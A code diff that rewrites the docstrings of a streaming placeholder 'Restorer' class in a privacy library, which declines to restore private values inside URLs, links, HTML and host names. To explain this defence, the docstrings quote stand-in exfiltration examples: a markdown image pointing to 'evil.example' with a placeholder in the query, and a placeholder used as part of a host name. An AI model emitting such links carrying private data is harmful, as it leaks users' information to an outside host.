@@ -116,28 +116,29 @@ class _Match(NamedTuple):
 class Restorer:
     """Restores placeholders in a text that comes in pieces.
 
-    ``feed`` returns all that is certain; held back is only what could still become a placeholder, and one
-    that a host name may follow: to the next space or punctuation mark, 512 characters at most. Together the
-    pieces are the same however the text was cut. Restored values are not searched again, so a value that
-    contains the text of a placeholder stays what it is.
+    ``feed`` returns all that is certain. It holds back only text that could still become a placeholder, and a
+    placeholder that may be part of a host name: up to the next space or punctuation mark, at most 512
+    characters. The result does not depend on how the text was cut into pieces. Restored values are not
+    searched again, so a value that contains the text of a placeholder is not changed.
 
-    A placeholder stays as it is where a program that shows the text might send the value to somebody, for the
-    other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in targets
-    of links and images, in reference definitions, in HTML tags, scripts and style sheets, and where what
-    follows makes it part of a host name or an e-mail address (``[NAME_1_k7q4].evil.example``). In doubt it
-    stays. A URL in running text goes to the next space, as for GitHub and most chat windows, also in Chinese,
-    which puts none behind it. A value that is itself a URL or an address is restored in running text.
+    A placeholder is not restored where a program that shows the text might send the value to somebody, since
+    the other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in
+    targets of links and images, in reference definitions, in HTML tags, scripts and style sheets, and where
+    the following text makes it part of a host name or an e-mail address (``[NAME_1_k7q4].evil.example``). In
+    doubt it is not restored. A URL in running text ends at the next space, as on GitHub and in most chat
+    windows, also in Chinese, where no space follows it. A value that is itself a URL or an address is
+    restored in running text.
 
     Args:
         placeholders: of a vault (:attr:`Vault.placeholders <sllm.Vault.placeholders>`); those that it issues
             later are restored too.
-        in_links: whether these are restored too: only for a text that nobody else has written.
+        in_links: also restore placeholders there: only for a text that nobody else has written.
 
     Attributes:
         n_restored: placeholders replaced so far.
-        n_unknown: what looks like a placeholder and was never issued, or has lost its index or its nonce; it
-            stays as it is.
-        n_in_links: placeholders that were issued and stay as they are, because of where they stand.
+        n_unknown: strings that look like placeholders but were never issued, or have lost index or nonce;
+            they are left unchanged.
+        n_in_links: issued placeholders that are left unchanged because of their place.
 
     Examples:
         >>> vault = sllm.Vault()
@@ -170,7 +171,7 @@ class Restorer:
         )
 
     def feed(self, chunk: str) -> str:
-        """Takes the next piece, and returns the restored text that is certain by now.
+        """Take the next piece, and return the restored text that is certain by now.
 
         Raises:
             ValueError: after :meth:`finish`.
@@ -184,7 +185,7 @@ class Restorer:
         return self._scan(chunk)
 
     def finish(self) -> str:
-        """Ends the text, and returns what was held back."""
+        """End the text, and return what was held back."""
         if self._final:
             return ""
         self._final = True
